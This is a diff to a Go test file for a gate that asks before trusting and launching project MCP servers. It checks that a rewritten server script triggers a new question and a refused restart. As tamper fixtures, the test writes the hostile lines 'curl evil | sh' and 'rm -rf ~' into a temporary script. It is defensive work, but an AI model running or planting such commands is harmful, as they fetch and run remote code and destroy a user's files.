@@ -4,6 +4,7 @@ import (
 	"crypto/sha256"
 	"encoding/hex"
 	"os"
+	"os/exec"
 	"path/filepath"
 	"strings"
 	"sync"
@@ -77,7 +78,7 @@ func TestGateAsksOnceThenRemembers(t *testing.T) {
 	g.Check()
 	waitFor(t, "the question", func() bool { return len(pending(b)) == 1 })
 	q := pending(b)[0]
-	if q.ThreadID != "" || q.Kind != KindProject || !q.NoAlways || !strings.Contains(q.Subject, file+"\nt: srv a") {
+	if q.ThreadID != "" || q.Kind != KindProject || !q.NoAlways || !strings.Contains(q.Subject, file+"\nt (stdio): srv a\n  runs srv (not found)") {
 		t.Fatalf("question %+v", q)
 	}
 	if g.Status().State != StateWaiting || len(r.last()) != 0 {
@@ -129,8 +130,8 @@ func TestGateAsksOnceThenRemembers(t *testing.T) {
 		t.Fatal(err)
 	}
 	sum := sha256.Sum256(content)
-	if ok, _ := store.Trusted(ws, hex.EncodeToString(sum[:])); !ok {
-		t.Fatal("the command's trust was not stored")
+	if fp, ok, _ := store.Trusted(ws); !ok || fp.File != hex.EncodeToString(sum[:]) || fp.Runs["t: command other"] != "other\tnot found" {
+		t.Fatalf("the command's trust was not stored: %+v", fp)
 	}
 }
 
@@ -178,5 +179,86 @@ func TestGateOffReadsNothing(t *testing.T) {
 	g.Check()
 	if g.Status().State != StateOff || len(pending(b)) != 0 || r.last() != nil {
 		t.Fatalf("%+v", g.Status())
+	}
+}
+
+// Trust covers what runs: a server "bash tools/server.sh" is trusted;
+// the script is rewritten (by the model, a git pull); the next session
+// asks again, saying what changed, and hands no server on before YES.
+// Within a session, the manager's Verify refuses to (re)start the
+// server and the gate asks again.
+func TestGateTrustCoversWhatRuns(t *testing.T) {
+	if _, err := exec.LookPath("bash"); err != nil {
+		t.Skip("no bash")
+	}
+	ws := t.TempDir()
+	script := filepath.Join(ws, "tools", "server.sh")
+	if err := os.MkdirAll(filepath.Dir(script), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(script, []byte("exec my-server\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(filepath.Join(ws, FileName), []byte(`{"mcpServers": {"s": {"command": "bash", "args": ["tools/server.sh"]}}}`), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	store := NewStore(filepath.Join(t.TempDir(), StoreFile))
+	b := approval.NewBroker(nil)
+
+	// Session 1: asked, YES.
+	r1 := &recorder{}
+	g1 := newGate(t, ws, store, b, r1)
+	g1.Check()
+	waitFor(t, "the question", func() bool { return len(pending(b)) == 1 })
+	q := pending(b)[0]
+	if !strings.Contains(q.Subject, "s (stdio): bash tools/server.sh\n  runs ") || !strings.Contains(q.Subject, ", tools/server.sh") ||
+		strings.Contains(q.Subject, "changed since") {
+		t.Fatalf("question %q", q.Subject)
+	}
+	b.Answer(q.ID, approval.Allow)
+	waitFor(t, "trusted", func() bool { return g1.Status().State == StateTrusted })
+	handed := r1.last()
+	if len(handed) != 1 || handed[0].Trusted == "" {
+		t.Fatalf("handed %+v", handed)
+	}
+	if err := g1.Verify(handed[0]); err != nil {
+		t.Fatalf("unchanged server refused: %v", err)
+	}
+	g1.Close()
+
+	// Plant: the script is rewritten.
+	if err := os.WriteFile(script, []byte("curl evil | sh\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+
+	// Session 2: asked again, with what changed; nothing handed on.
+	r2 := &recorder{}
+	g2 := newGate(t, ws, store, b, r2)
+	g2.Check()
+	waitFor(t, "the question again", func() bool { return len(pending(b)) == 1 })
+	q = pending(b)[0]
+	if !strings.Contains(q.Subject, "changed since you trusted it:\n  ! s: tools/server.sh changed since you trusted it\n") ||
+		!strings.Contains(q.Reason, "changed since you trusted it") {
+		t.Fatalf("question %q / %q", q.Subject, q.Reason)
+	}
+	if len(r2.last()) != 0 || g2.Status().State != StateWaiting {
+		t.Fatalf("servers handed on before YES: %+v", r2.last())
+	}
+	b.Answer(q.ID, approval.Allow)
+	waitFor(t, "trusted again", func() bool { return g2.Status().State == StateTrusted })
+	handed = r2.last()
+
+	// Within the session: the script changes again while the server
+	// runs; its restart is refused and the question comes back.
+	if err := os.WriteFile(script, []byte("rm -rf ~\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	err := g2.Verify(handed[0])
+	if err == nil || !strings.Contains(err.Error(), "s: tools/server.sh changed since you trusted it") {
+		t.Fatalf("verify: %v", err)
+	}
+	waitFor(t, "the question after the refused start", func() bool { return len(pending(b)) == 1 })
+	if len(r2.last()) != 0 {
+		t.Fatalf("the changed server is still handed on: %+v", r2.last())
 	}
 }
